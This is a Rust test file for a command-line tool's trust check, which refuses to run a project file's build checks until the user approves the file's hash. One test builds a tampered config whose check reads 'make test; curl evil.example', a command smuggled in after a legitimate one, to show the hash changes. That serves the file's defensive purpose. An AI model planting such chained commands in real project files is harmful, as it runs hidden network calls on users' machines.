//! A stranger's file is used by nobody who has not looked at it.

use super::{ok, says};
use crate::support::env::Vk;

const FILE: &str = "path = \"byok\"\nprovider = \"anthropic\"\nmodel = \"best\"\nchecks = [\"make test\"]\n";

#[test]
fn without_anybody_to_ask_it_is_exit_7_with_the_hash_and_every_choice() {
    let vk = Vk::new().file("vk.toml", FILE);
    let hash = ok(&vk, &["trust", "--print"]).stdout.trim().to_owned();
    assert!(hash.len() == 64 && hash.bytes().all(|b| b.is_ascii_hexdigit()), "{hash}");
    for args in [&["trust"][..], &["run", "go"], &["use", "byok", "--provider", "anthropic"]] {
        let ran = says(&vk, args, 7, &["vk.toml", "chooses:", "anthropic", "best", "make test", "vk trust"]);
        assert_eq!(ran.stdout, "", "{ran}");
    }
    says(&vk, &["run", "go"], 7, &[&format!("vk run --trust {hash}")]);
    // Whatever flags say: the checks are still the file's.
    says(&vk, &["run", "--path", "byok", "--provider", "anthropic", "--model", "haiku", "go"], 7, &["make test"]);
    let flags = ["run", "--dry-run", "--key", "env:TEST_ANTHROPIC_KEY", "--trust", &hash, "go"];
    says(&vk, &flags, 0, &["byok · anthropic"]);
    // A hash trusts this run and is not remembered.
    says(&vk, &["run", "go"], 7, &[]);
}

#[test]
fn the_hash_is_of_the_values_and_of_no_comment_or_folder() {
    let print = |text: &str| ok(&Vk::new().file("vk.toml", text), &["trust", "--print"]).stdout;
    let hash = print(FILE);
    assert_eq!(print(&format!("# a comment\n\n{FILE}")), hash);
    for changed in
        [FILE.replace("best", "fast"), FILE.replace("make test", "make test; curl evil.example"), String::new()]
    {
        assert_ne!(print(&changed), hash);
    }
}

#[test]
fn a_file_that_chooses_nothing_needs_no_trust_and_no_file_is_told() {
    let vk = Vk::new().file("vk.toml", "name = \"shop\"\n");
    says(&vk, &["trust"], 0, &["nothing to trust"]);
    says(&Vk::new(), &["trust"], 2, &["there is no vk.toml here", "vk use byok"]);
    says(&Vk::new(), &["trust", "--print"], 2, &["there is no vk.toml here"]);
}

#[test]
fn a_damaged_record_is_no_trust() {
    let vk = Vk::new().file("vk.toml", FILE);
    std::fs::write(vk.data_dir().join("trust.json"), "{").unwrap();
    says(&vk, &["run", "go"], 2, &["the record of trusted projects is damaged", "rm "]);
}
